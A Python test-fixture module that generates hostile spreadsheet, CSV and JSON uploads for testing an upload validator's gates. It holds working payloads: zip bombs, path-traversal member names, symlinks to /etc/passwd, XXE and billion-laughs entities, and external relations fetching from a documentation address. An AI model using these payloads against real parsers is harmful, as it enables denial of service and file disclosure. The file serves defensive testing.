"""Files that nobody sends by accident, by family: (family, name, bytes, what is odd about it without the gates).

`oddity` is a function of the bytes that is true when the file really is what its family says, shown without opening it
in anything that it could hurt: a file that merely failed to be hostile would prove nothing.
"""

import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

MEGABYTE = 1024 * 1024
MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml."
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN}sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{MAIN}worksheet+xml"/></Types>'
)
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>Number</t></is></c></row>'


@dataclass(frozen=True)
class Hostile:
    """One such file."""

    family: str
    label: str
    name: str
    data: bytes
    oddity: Any

    @property
    def id(self):
        return f"{self.family}-{self.label}"


def relations(*extra):
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{"".join(extra)}</Relationships>'


def relation(kind, target, mode=""):
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r{abs(hash(target)) % 999}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def parts(sheet=None, **changes):
    """The parts of a small workbook, some of them changed."""
    found = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="Commitments" '
        f'sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        ),
        "xl/worksheets/sheet1.xml": sheet
        or f'<worksheet xmlns="{SHEET}"><sheetData>{ROW}</sheetData></worksheet>',
    }
    return found | changes


def zipped(members, *, stored=False, modes=None):
    """A zip of (name, content) pairs or a dictionary."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items() if isinstance(members, dict) else members:
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            entry.external_attr = (modes or {}).get(name, 0o644) << 16
            archive.writestr(entry, content)
    return file.getvalue()


def listed(data):
    """The zip's directory as Python reads it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.infolist()


def names_in(data):
    return [entry.filename for entry in listed(data)]


def read(data, name):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def unpacked(data):
    return sum(entry.file_size for entry in listed(data))


# --- families


def bombs():
    """Small packed, huge unpacked."""
    for size in (31, 40, 64, 100, 200):
        data = zipped(parts(**{"xl/media/image1.png": b"\0" * (size * MEGABYTE)}))
        yield f"{size}MB", data, lambda data: unpacked(data) > 30 * len(data)
    for copies in (4, 8, 16):
        extra = {f"xl/media/{n}.png": b"\0" * (4 * MEGABYTE) for n in range(copies)}
        yield f"{copies}x4MB", zipped(parts(**extra)), lambda data: unpacked(data) > 100 * len(data)
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData>' + " " * (20 * MEGABYTE) + "</sheetData></worksheet>"
    yield "blank-sheet", zipped(parts(sheet)), lambda data: unpacked(data) > 100 * len(data)
    comment = f'<worksheet xmlns="{SHEET}"><!--' + "x" * (12 * MEGABYTE) + "--></worksheet>"
    yield "comment", zipped(parts(comment)), lambda data: unpacked(data) > 100 * len(data)


def crowds():
    """Directories longer than any real file's, or that lie about their length."""
    for count in (200, 1000, 5000, 50_000):
        extra = {f"xl/x{n}.bin": b"" for n in range(count)}
        yield f"{count}-parts", zipped(parts(**extra)), lambda data: len(listed(data)) > 200
    small = zipped(parts())
    at = small.rfind(b"PK\x05\x06")
    for said in (0, 1, 4, 6, 65535):
        lie = small[: at + 8] + struct.pack("<HH", said, said) + small[at + 12 :]
        yield f"says-{said}", lie, lambda data: len(names_in_spite(data)) == 5
    yield "no-directory", small[:at], lambda data: not zipfile.is_zipfile(io.BytesIO(data))
    yield "half", small[: len(small) // 2], lambda data: not zipfile.is_zipfile(io.BytesIO(data))


def names_in_spite(data):
    """Python reads the directory by its length and does not compare the counts."""
    return names_in(data)


def paths():
    """Parts whose names lead out of the file when it is unpacked."""
    for label, name in {
        "up": "../../../../tmp/owned.xml",
        "up-inside": "xl/../../owned.xml",
        "root": "/owned.xml",
        "backslash": "..\\..\\owned.xml",
        "drive": "C:/owned.xml",
        "drive-relative": "C:owned.xml",
        "unc": "\\\\server\\share\\owned.xml",
        "up-alone": "..",
        "newline": "xl/a\nb.xml",
        "control": "xl/\x1b[31m.xml",
        "bidi": "xl/\u202exml.exe",
        "dots": "xl/a/../../../b.xml",
    }.items():
        yield label, zipped({**parts(), name: "<a/>"}), lambda data, name=name: name in names_in(data)


def links():
    """Parts that are no files: links, devices, pipes."""
    for label, kind in {"symlink": 0o120777, "device": 0o020666, "block": 0o060666, "pipe": 0o010666,
                        "socket": 0o140777}.items():  # fmt: skip
        data = zipped({**parts(), "xl/link": "/etc/passwd"}, modes={"xl/link": kind})
        yield label, data, lambda data: any(entry.external_attr >> 28 not in (0, 8) for entry in listed(data))


def deceptions():
    """Archives that different programs read differently."""
    double = list(parts().items())
    for label, again in {"same": "xl/workbook.xml", "case": "XL/Workbook.xml", "dot": "xl/./workbook.xml",
                         "backslash": "xl\\workbook.xml", "slashes": "xl//workbook.xml"}.items():  # fmt: skip
        yield f"twice-{label}", zipped([*double, (again, "<other/>")]), lambda data: len(listed(data)) == 6
    small = zipped(parts())
    first = small.index(b"[Content_Types].xml")
    renamed = small[:first] + b"[Content_Typez].xml" + small[first + 19 :]
    yield "two-names", renamed, lambda data: b"Typez" in data and "[Content_Types].xml" in names_in(data)
    entries = listed(small)
    directory = small.index(b"PK\x01\x02")
    said = small[: directory + 24] + struct.pack("<L", 5) + small[directory + 28 :]
    yield "says-smaller", said, lambda data: listed(data)[0].file_size == 5
    wrong = small[: directory + 16] + struct.pack("<L", 1) + small[directory + 20 :]
    yield "wrong-sum", wrong, lambda data: listed(data)[0].CRC == 1
    second = small.index(b"PK\x01\x02", directory + 4)
    same = small[: second + 42] + struct.pack("<L", 0) + small[second + 46 :]
    yield "overlapping", same, lambda data: listed(data)[1].header_offset == 0
    locked = bytearray(small)
    locked[directory + 8] |= 1
    yield "encrypted", bytes(locked), lambda data: listed(data)[0].flag_bits & 1
    odd = bytearray(small)
    odd[directory + 10] = odd[8] = 12
    yield "bzip2", bytes(odd), lambda data: listed(data)[0].compress_type == 12
    assert entries


def macros():
    """Programs that Office would run."""
    for label, name in {
        "vba": "xl/vbaProject.bin",
        "vba-signature": "xl/vbaProjectSignature.bin",
        "macrosheet": "xl/macrosheets/sheet1.xml",
        "activex": "xl/activeX/activeX1.xml",
        "activex-bin": "xl/activeX/activeX1.bin",
        "control": "xl/ctrlProps/ctrlProp1.xml",
        "dialog": "xl/dialogsheets/sheet1.xml",
        "ribbon": "customUI/customUI.xml",
        "vba-elsewhere": "docProps/VBAproject.bin",
    }.items():
        yield label, zipped({**parts(), name: "<a/>"}), lambda data, name=name: name in names_in(data)
    enabled = TYPES.replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
    yield (
        "content-type",
        zipped(parts(**{"[Content_Types].xml": enabled})),
        (lambda data: b"macroEnabled" in read(data, "[Content_Types].xml")),
    )


def fetches():
    """Files that load something from elsewhere when they are opened."""
    for kind, target in {
        "externalLink": "http://198.51.100.1/book.xlsx",
        "image": "file:///etc/passwd",
        "oleObject": "\\\\198.51.100.1\\share\\a.doc",
        "attachedTemplate": "http://198.51.100.1/t.dotm",
        "frame": "http://198.51.100.1/",
        "subDocument": "http://198.51.100.1/a.docx",
        "externalLinkPath": "https://198.51.100.1/a.xlsx",
        "worksheet": "http://198.51.100.1/sheet.xml",
    }.items():
        rels = relations(relation(kind, target, "External"))
        data = zipped(parts(**{"xl/worksheets/_rels/sheet1.xml.rels": rels}))
        yield kind, data, lambda data: b"External" in read(data, "xl/worksheets/_rels/sheet1.xml.rels")
    for label, name in {"part": "xl/externalLinks/externalLink1.xml", "connections": "xl/connections.xml",
                        "query": "xl/queryTables/queryTable1.xml"}.items():  # fmt: skip
        yield label, zipped({**parts(), name: "<a/>"}), lambda data, name=name: name in names_in(data)


def matryoshkas():
    """Files inside the file."""
    inner = zipped(parts())
    for label, content in {
        "zip": inner,
        "gzip": zlib.compress(b"x") and b"\x1f\x8b\x08\x00rest",
        "7z": b"7z\xbc\xaf\x27\x1crest",
        "rar": b"Rar!\x1a\x07rest",
        "bzip2": b"BZh91AY&SY",
        "xz": b"\xfd7zXZ\x00rest",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
        "exe": b"MZ\x90\x00rest",
        "elf": b"\x7fELF\x02rest",
        "empty-zip": b"PK\x05\x06" + b"\0" * 18,
    }.items():
        yield (
            label,
            zipped({**parts(), "xl/embeddings/thing.bin": content}),
            (lambda data, content=content: read(data, "xl/embeddings/thing.bin") == content),
        )


def entities():
    """XML that grows or fetches while it is parsed."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]>'
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f'<worksheet xmlns="{SHEET}"><sheetData>{{}}</sheetData></worksheet>'
    for label, text in {
        "laughs": '<?xml version="1.0"?>' + head + body.format("&l9;"),
        "outside": '<?xml version="1.0"?>' + outside + body.format("&x;"),
        "doctype": "<!DOCTYPE worksheet>" + body.format(ROW),
        "parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd">%p;]>' + body.format(ROW),
    }.items():
        yield label, zipped(parts(text)), lambda data: b"<!DOCTYPE" in read(data, "xl/worksheets/sheet1.xml")
        yield (
            f"{label}-utf16",
            zipped(parts(text.encode("utf-16"))),
            (lambda data: read(data, "xl/worksheets/sheet1.xml")[:2] == b"\xff\xfe"),
        )
    for encoding in ("utf-7", "ebcdic-cp-us", "shift_jis"):
        text = f'<?xml version="1.0" encoding="{encoding}"?>' + body.format(ROW)
        yield (
            encoding,
            zipped(parts(text)),
            lambda data: b"encoding=" in read(data, "xl/worksheets/sheet1.xml"),
        )
    in_types = TYPES.replace("<Types", "<!DOCTYPE a><Types")
    yield (
        "in-types",
        zipped(parts(**{"[Content_Types].xml": in_types})),
        (lambda data: b"<!DOCTYPE" in read(data, "[Content_Types].xml")),
    )


def expanses():
    """Sheets that are almost empty and immensely large, or simply too large."""

    def sheet(rows, dimension="A1:XFD1048576"):
        return f'<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'

    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    for label, rows in {
        "corners": ROW + corner,
        "far-column": '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>' * 1,
        "beyond-excel": ROW + '<row r="99999999"><c r="ZZZZZ99999999"><v>1</v></c></row>',
        "wide-rows": "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 20_000, 7)),
    }.items():
        yield label, zipped(parts(sheet(rows))), lambda data: b"XFD" in read(data, "xl/worksheets/sheet1.xml")
    many = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{n}</t></is></c></row>' for n in range(1, 30_001)
    )
    yield (
        "30000-rows",
        zipped(parts(sheet(many, "A1:A30000"))),
        (lambda data: read(data, "xl/worksheets/sheet1.xml").count(b"<row") == 30_000),
    )
    columns = "".join(f'<c r="{column(n)}1" t="inlineStr"><is><t>c{n}</t></is></c>' for n in range(300))
    yield (
        "300-columns",
        zipped(parts(sheet(f'<row r="1">{columns}</row>', "A1:KN1"))),
        (lambda data: read(data, "xl/worksheets/sheet1.xml").count(b"<c ") == 300),
    )
    deep = f'<worksheet xmlns="{SHEET}">' + "<a>" * 200_000 + "</a>" * 200_000 + "</worksheet>"
    yield "deep", zipped(parts(deep), stored=True), lambda data: data.count(b"<a>") == 200_000


def column(index):
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def impostors():
    """Bytes of another kind than the name says."""
    for label, data in {
        "exe": b"MZ\x90\x00" + b"\0" * 200,
        "elf": b"\x7fELF" + b"\0" * 200,
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
        "pdf": b"%PDF-1.7\n%%EOF",
        "html": b"<html><table><tr><td>Number</td></tr></table></html>",
        "old-xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 50,
        "text": b"Number;Kind\n1;deliverable\n",
        "zip": zipped({"readme.txt": "hello"}),
        "docx-types": zipped(parts(**{"[Content_Types].xml": TYPES.replace("sheet.main", "document.main")})),
        "prefix": b"GIF89a" + zipped(parts()),
    }.items():
        yield label, data, lambda data: not _is_workbook(data)


def _is_workbook(data):
    if not data.startswith(b"PK\x03\x04") or "[Content_Types].xml" not in names_in(data):
        return False
    return b"sheet.main" in read(data, "[Content_Types].xml")


def texts():
    """CSV that is none, or that never ends."""
    head = b"Reference,Number,Kind\n"
    yield "open-quote", head + b'KR-2021-1,"' + b"x" * 200_000, lambda data: data.count(b'"') % 2
    yield "open-quote-lines", head + b'"' + b"a,b\n" * 60_000, lambda data: data.count(b'"') % 2
    yield "huge-cell", head + b"KR-2021-1,1," + b"x" * 150_000, lambda data: len(data) > 100_000
    yield "rows", head + b"KR-2021-1,1,deliverable\n" * 25_000, lambda data: data.count(b"\n") > 20_001
    yield "columns", b"Number" + b",x" * 5000, lambda data: data.count(b",") == 5000
    yield "nul", head + b"KR-2021-1,1\x00,deliverable\n", lambda data: b"\0" in data
    yield "control", head + b"KR-2021-1,1\x1b[31m,deliverable\n", lambda data: b"\x1b" in data
    yield "utf-32", "Number".encode("utf-32-le"), lambda data: b"\0\0" in data
    yield "half-utf-16", b"\xff\xfeN\x00u", lambda data: len(data) % 2
    yield "undefined-1252", head + b"KR-2021-1,1,\x81\x8d\x8f\n", lambda data: b"\x81" in data
    yield "no-header", b"1,2,3\n4,5,6\n", lambda data: b"Number" not in data
    yield "too-large", head + b"x" * (10 * MEGABYTE), lambda data: len(data) > 10 * MEGABYTE
    yield "empty", b"", lambda data: not data
    yield "blank", b"\n" * 1000, lambda data: not data.strip()


def documents():
    """JSON that is no plan, or means two things."""
    for label, text in {
        "deep": "[" * 100_000,
        "deep-objects": '{"a":' * 100_000,
        "number": '{"format": ' + "9" * 100_000 + "}",
        "nan": '{"format": "embassy-plan", "version": NaN}',
        "decimal": '{"format": "embassy-plan", "version": 1.0}',
        "twice": '{"format": "embassy-plan", "format": "x", "version": 1}',
        "other": '{"format": "something-else", "version": 1}',
        "version": '{"format": "embassy-plan", "version": 99}',
        "list": "[1, 2, 3]",
        "nested": json.dumps(_plan(areas=[{"number": {"$ne": 1}}])),
        "no-list": json.dumps(_plan(areas="all")),
        "no-object": json.dumps(_plan(areas=[1, 2])),
        "nul": json.dumps(_plan(areas=[{"number": 1, "title": "a\x00b"}])),
        "half": json.dumps(_plan())[:-3],
        "comments": '/* a plan */ {"format": "embassy-plan"}',
        "many-rows": json.dumps(_plan(areas=[{"number": n} for n in range(21_000)])),
    }.items():
        yield label, text.encode(), lambda data: bool(data)


def _plan(**parts):
    return {"format": "embassy-plan", "version": 1, "programme": {"reference": "KR-2021"}, **parts}


FAMILIES = {
    "bombs": (bombs, "plan.xlsx"),
    "crowds": (crowds, "plan.xlsx"),
    "paths": (paths, "plan.xlsx"),
    "links": (links, "plan.xlsx"),
    "deceptions": (deceptions, "plan.xlsx"),
    "macros": (macros, "plan.xlsx"),
    "fetches": (fetches, "plan.xlsx"),
    "matryoshkas": (matryoshkas, "plan.xlsx"),
    "entities": (entities, "plan.xlsx"),
    "expanses": (expanses, "plan.xlsx"),
    "impostors": (impostors, "plan.xlsx"),
    "texts": (texts, "plan.csv"),
    "documents": (documents, "plan.json"),
}


def everything():
    """Every hostile file."""
    for family, (make, name) in FAMILIES.items():
        for label, data, oddity in make():
            yield Hostile(family, label, name, data, oddity)
